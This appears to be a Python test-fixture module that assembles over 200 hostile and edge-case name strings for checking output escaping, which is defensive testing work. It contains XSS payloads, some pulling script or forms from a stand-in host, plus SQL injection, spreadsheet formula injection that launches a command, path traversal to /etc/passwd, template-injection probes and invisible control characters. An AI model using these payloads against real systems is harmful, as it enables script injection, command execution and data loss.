"""Names harmful on a page or in a file, or just too long."""

from itertools import product
from typing import Final

_SCRIPTS: Final = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button>ok</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<object data=x><embed src=x>",
    "<math><mtext></mtext><mglyph><style></math>",
    "<template><p></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!-- --><!doctype html><html><body>",
    "<![CDATA[ x ]]><?xml version='1.0'?>",
    "<x-evil zq7>",
)
_BREAKS: Final = ("", '"', "'", '">', "'>", "</td>", "</a>", "</textarea>", "</title>", "-->")
"""What ends an attribute, an element or a comment around the text."""

_OTHERS: Final = (
    *("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,<p>"),
    *("vbscript:x", "//evil.example/", "\\\\evil.example\\", "/../../etc/passwd", "?x=1&y=2#z"),
    *("&lt;script&gt;", "&#60;script&#62;", "&amp;amp;", "&copy", "%3Cscript%3E", "%00", "%0d%0a"),
    *("{{ 7 * 7 }}", "{% raw %}", "{# x #}", "${7*7}", "#{7*7}", "{name}", "{0}", "%s%n", "~{x}"),
    *("=1+1", "+1+1", "-1+1", "@SUM(A1)", '=HYPERLINK("//evil.example")', "=cmd|'/C calc'!A0"),
    *("\uff1d1+1", " =1+1", "\t=1+1", '"=1+1"', "';--", "' OR '1'='1", "1; DROP TABLE event"),
    *("Rossi\u202eevil", "\u202bRossi\u202c", "\u2066Rossi\u2069", "\u200bRossi", "Ro\u200dssi"),
    *("\ufeffRossi", "\u2060", "Ro\u00adssi", "\u061cRossi", "\u2028x", "\u2029x", "\u0085x"),
    *("مرحبا", "שלום Rossi", "日本語", "Łukasiewicz", "D’Àmico", "Ⅷ", "ﬁ", "İstanbul", "ß"),
    *("e" + 40 * "\u0301", 20 * "🏳️‍🌈", "\U000e0041", "\U0001d57d\U0001d594"),
    *("A" * 3_000, "W " * 1_500, "M" * 200, "-" * 500, "Rossi, " * 100),
    *(
        "null",
        "None",
        "undefined",
        "NaN",
        "true",
        "0",
        "-0",
        "1e999",
        "[object Object]",
        "../",
        ".",
    ),
    *("con", "x.csv", "a/b", "a\\b", "a;b", 'a"b"c', "a,b", "a|b", "<", ">", "&", '"', "'", "`"),
)

MARK: Final = "zq7"
"""An attribute that no template makes."""

TEXTS: Final = (
    *(f"{end}{script}" for end, script in product(_BREAKS, _SCRIPTS)),
    *(f"x{quote} {MARK}={quote}y" for quote in ('"', "'", "`", "")),
    *_OTHERS,
)
"""More than 200; each could stand in any field."""
